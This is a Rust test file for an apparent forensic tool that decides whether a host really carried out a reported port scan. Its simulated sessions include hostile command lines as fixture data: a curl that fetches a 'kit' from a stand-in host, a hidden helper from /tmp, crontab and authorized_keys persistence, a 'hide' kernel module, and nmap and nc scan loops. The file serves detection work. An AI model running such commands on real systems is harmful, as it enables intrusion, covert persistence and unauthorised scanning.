//! Beyond the deed: whether it was like the person, what the session did beside, and answers that are no deed.

use gumshoe::case::Confidence;
use gumshoe::report::Report;
use history::Direction;
use history::FlowState;
use history::Habit;
use history::OperationKind;
use history::Used;
use history::Via;

use super::check::everything_holds;
use super::story::*;
use super::told::told;

/// Three weeks of logins from the laptop, by key, between eight and ten in the morning.
fn office_hours(before: i64) -> Habit {
    let used =
        |value: &str| Used { value: value.to_owned(), count: 32, first: at(-1_800_000), last: at(-80_000) };
    let mut hours = vec![0; 24];
    (hours[8], hours[9]) = (20, 12);
    Habit {
        user: "alice".to_owned(),
        before: at(before),
        since: at(-1_900_000),
        whole: true,
        accepted: 32,
        failed: 1,
        days: 15,
        hours,
        sources: vec![used(LAPTOP)],
        methods: vec![used("publickey")],
        keys: Vec::new(),
        programs: vec![used("/usr/bin/nmap")],
    }
}

fn finds(report: &Report, text: &str) -> bool {
    report.judgement.findings.iter().any(|finding| finding.text.contains(text))
}

#[test]
fn a_login_is_held_against_the_persons_habits() {
    for (from, method, known) in [(LAPTOP, "publickey", true), ("203.0.113.99", "password", false)] {
        let mut story = Story::new();
        let shell = story.ssh_by(ALICE, from, 60, method, None);
        story.habits.push(office_hours(60));
        let nmap = story.sudo(shell, 120, "/usr/bin/nmap", "nmap -sS 198.51.100.7");
        story.raw_scan(nmap, 121, 134, Via::Packet);
        let report = report_of(&story, accused(120, 180));
        assert!(
            finds(&report, "alice logged in 32 times before, on 15 days"),
            "{:#?}",
            report.judgement.findings
        );
        assert!(
            finds(&report, "alice ran /usr/bin/nmap 32 times before"),
            "{:#?}",
            report.judgement.findings
        );
        assert_eq!(finds(&report, "192.0.2.10 is known: 32 logins before"), known);
        assert_eq!(finds(&report, "alice never logged in from 203.0.113.99 before"), !known);
        assert_eq!(finds(&report, "alice never logged in by password before"), !known);
        let unlike =
            report.judgement.suspects[0].signs.iter().any(|sign| sign.contains("unlike all earlier"));
        assert_eq!(unlike, !known);
        everything_holds(&report);
    }
}

#[test]
fn who_was_never_here_before_has_no_habit_to_differ_from() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    story.habits.push(Habit { accepted: 0, sources: Vec::new(), ..office_hours(60) });
    let nmap = story.run(shell, 120, ALICE, "/usr/bin/nmap", "nmap -sT 198.51.100.7");
    story.raw_scan(nmap, 121, 134, Via::Socket);
    let report = report_of(&story, accused(120, 180));
    assert!(finds(&report, "no earlier login of alice is known"), "{:#?}", report.judgement.findings);
    assert!(report.judgement.suspects[0].signs.is_empty());
}

#[test]
fn what_a_session_did_beside_is_told_and_drawn() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    let curl = story.run(shell, 70, ALICE, "/usr/bin/curl", "curl -O http://203.0.113.66/kit");
    story.traffic(Some(curl), 70, 71, |activity| {
        activity.states = vec![(FlowState::Closed, 1)];
        activity.address_sample = vec!["203.0.113.66".parse().unwrap()];
        activity.port_ranges = vec![(80, 80)];
    });
    let kit = story.run(shell, 80, ALICE, "/tmp/.kit/helper", "./helper");
    story.traffic(Some(kit), 80, 600, |activity| activity.states = vec![(FlowState::Listening, 1)]);
    story.run(shell, 90, ALICE, "/usr/bin/crontab", "crontab -");
    let tee = story.run(shell, 95, ALICE, "/usr/bin/tee", "tee -a /home/alice/.ssh/authorized_keys");
    story.operation(tee, 95, OperationKind::ModuleLoad, "hide");
    let nmap = story.run(shell, 120, ALICE, "/usr/bin/nmap", "nmap -sT 198.51.100.7");
    story.raw_scan(nmap, 121, 134, Via::Socket);
    let report = report_of(&story, accused(120, 180));
    told(
        &report,
        "a scan by a session that fetched tools and made itself stay",
        "what the session did beside is told and drawn",
    );
    for text in [
        "fetched something: curl -O",
        "ran a program from an odd place: ./helper",
        "did what may last: crontab -",
        "did what may last: tee -a /home/alice/.ssh/authorized_keys",
        "did what may last: loaded the module hide",
        "curl of the same session or service also sent 1 flow by TCP to 203.0.113.66, port 80",
        "helper waits for connections itself",
    ] {
        assert!(finds(&report, text), "{text}: {:#?}", report.judgement.findings);
    }
    let edges: Vec<&str> = report.judgement.graph.edges.iter().map(|edge| edge.label.as_str()).collect();
    assert!(edges.contains(&"fetched something") && edges.contains(&"also sent to"), "{edges:?}");
    everything_holds(&report);
}

#[test]
fn the_kernels_own_answers_are_no_deed_of_this_host() {
    let mut story = Story::new();
    noise(&mut story);
    story.traffic(None, 121, 134, |activity| {
        activity.via = Via::Kernel;
        activity.flows = 200;
        activity.matched = 200;
        activity.targets = 200;
        activity.ports = 200;
        activity.matched_ports = 200;
        activity.tcp_flags = 4;
        activity.address_sample = vec![VICTIM.parse().unwrap()];
        activity.port_ranges = vec![(1, 200)];
    });
    let report = report_of(&story, accused(120, 180));
    told(
        &report,
        "only the kernel answered packets of the reported address",
        "somebody else sends in this host's name",
    );
    assert_eq!(report.facts.verdict, "not_this_host", "{}", report.sentence);
    assert_eq!(report.facts.confidence, Confidence::High);
    assert!(
        finds(&report, "the kernel only answered packets that came in"),
        "{:#?}",
        report.judgement.findings
    );
    everything_holds(&report);
}

#[test]
fn a_loop_that_the_host_has_summed_is_one_suspect_of_many_processes() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    let nc = story.run(shell, 120, ALICE, "/usr/bin/nc", "nc -z 198.51.100.7 1");
    story.traffic(Some(nc), 121, 134, |activity| {
        activity.processes = 300;
        activity.flows = 300;
        activity.matched = 300;
        activity.ports = 300;
        activity.targets = 300;
        activity.matched_ports = 300;
        activity.states = vec![(FlowState::Refused, 300)];
        activity.address_sample = vec![VICTIM.parse().unwrap()];
        activity.port_ranges = vec![(1, 300)];
    });
    let report = report_of(&story, accused(120, 180));
    told(&report, "a loop of hundreds of nc that the host has summed", "one suspect of many processes");
    assert_eq!(report.judgement.suspects[0].siblings, 299);
    assert_eq!(report.facts.tool.as_deref(), Some("netcat"));
    assert_eq!(report.facts.confidence, Confidence::High);
}

#[test]
fn turns_of_a_loop_below_wrappers_are_one_suspect() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    for port in 1..=40_u16 {
        let start = 120 + i64::from(port);
        let timeout = story.run(shell, start, ALICE, "/usr/bin/timeout", "timeout 1 nc");
        let nc = story.run(timeout, start, ALICE, "/usr/bin/nc", &format!("nc -z 198.51.100.7 {port}"));
        story.traffic(Some(nc), start, start, |activity| {
            activity.matched = 1;
            activity.matched_ports = 1;
            activity.states = vec![(FlowState::Refused, 1)];
            activity.address_sample = vec![VICTIM.parse().unwrap()];
            activity.port_ranges = vec![(port, port)];
        });
    }
    let report = report_of(&story, accused(120, 180));
    told(&report, "a loop of nc below timeout", "wrappers and subshells are looked through");
    assert_eq!(report.judgement.suspects.len(), 1, "{:#?}", report.judgement.suspects);
    assert_eq!(report.facts.targets.as_ref().unwrap().ports, 40);
    assert_eq!(report.facts.tool.as_deref(), Some("netcat"));
}

#[test]
fn a_tor_relay_is_an_exposed_service() {
    let mut story = Story::new();
    let tor = story.service("tor@default.service", User(110, "debian-tor"), "/usr/bin/tor", "tor --defaults");
    story.traffic(Some(tor), -3000, 1800, |activity| {
        activity.direction = Direction::In;
        activity.states = vec![(FlowState::Closed, 400)];
        activity.flows = 400;
    });
    story.traffic(Some(tor), 100, 200, |activity| {
        activity.flows = 300;
        activity.matched = 3;
        activity.matched_ports = 1;
        activity.addresses = 250;
        activity.targets = 250;
        activity.states = vec![(FlowState::Closed, 300)];
        activity.address_sample = vec![VICTIM.parse().unwrap()];
        activity.port_ranges = vec![(443, 443)];
    });
    let claim = gumshoe::case::Claim { activity: gumshoe::case::Activity::Tor, ..accused(120, 180) };
    let report = report_of(&story, claim);
    told(&report, "a Tor relay", "it serves others, by name");
    assert_eq!(report.facts.verdict, "exposed_service", "{}", report.sentence);
    assert_eq!(report.facts.entry, "unit");
}
